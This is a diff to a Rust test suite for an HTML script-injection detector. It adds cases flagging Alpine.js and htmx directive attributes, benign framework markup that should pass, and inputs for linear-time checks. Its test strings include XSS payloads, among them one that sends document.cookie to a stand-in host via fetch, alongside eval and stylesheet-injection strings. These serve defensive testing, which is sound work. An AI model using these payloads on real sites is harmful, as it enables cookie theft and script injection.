@@ -64,6 +64,29 @@ fn nothing_around_an_attack_lowers_it() {
 }
 
 #[test]
+fn directives_of_libraries_are_script() {
+    for value in [
+        "<div x-init=\"alert(1)\">",
+        "<div x-data x-on:mouseover.once=\"alert(1)\">",
+        "<x @click=\"fetch(`//x/`+document.cookie)\">",
+        "<x @mouseover='location=name'>",
+        "<x hx-on:click=\"eval(name)\">",
+        "<x data-hx-on::load=alert(1)>",
+        "<link rel=stylesheet href=//x.example/a.css>",
+        "\"><link href='https://x.example/a.css' rel='stylesheet'>",
+        "`;alert(1)//",
+    ] {
+        assert!(is_certain(value), "{value}");
+    }
+    for (value, most) in [
+        ("Put <link rel=\"stylesheet\" href=\"https://x.example/a.css\"> into the head", Confidence::Likely),
+        ("<link rel=\"stylesheet\" href=\"https://x.example/a.css\"><p>Hello</p>", Confidence::Likely),
+    ] {
+        assert!(surest(value.as_bytes()).is_none_or(|(confidence, _)| confidence <= most), "{value}");
+    }
+}
+
+#[test]
 fn what_people_write_passes() {
     for value in [
         "<p>Hello <b>world</b></p>",
@@ -83,6 +106,13 @@ fn what_people_write_passes() {
         "<input onChange={(e) => setX(e.target.value)} />",
         "<form onSubmit={handleSubmit(onSubmit)}>",
         "<sql onerror=\"continue\"/>",
+        "<button @click=\"save(item)\" x-on:blur=\"open = false\" v-on:submit.prevent=\"send\">x</button>",
+        "<div x-data=\"{ open: false }\" x-init=\"$watch('open', f)\" hx-on:click=\"toggle(this)\">x</div>",
+        "mail me @home = later",
+        "Try this:\n```\nfetch('/api').then(r => r.json())\n```",
+        "Try this:\n```\nsetTimeout('x()', 10)\n```",
+        "Try this:\n```\nconst x = await fetch('/api/users');\n```",
+        "Try this:\n\n```js\nconst x = await fetch('/api/users');\n```\nIt works.",
         "<li v-for=\"x in xs\" :key=\"x.id\">{{ x.name }}</li>",
         "What does javascript:void(0) mean?",
         "27\", black (matte)",
@@ -161,6 +191,8 @@ fn no_input_takes_more_than_linear_time() {
         "<a ",
         "<a/onx=/*",
         "<a/onxyz=a<",
+        "<a/@x=a<",
+        "<a/@x=y=1<",
         "<a x='<b \"",
         "<script>a",
         "<script>/*",
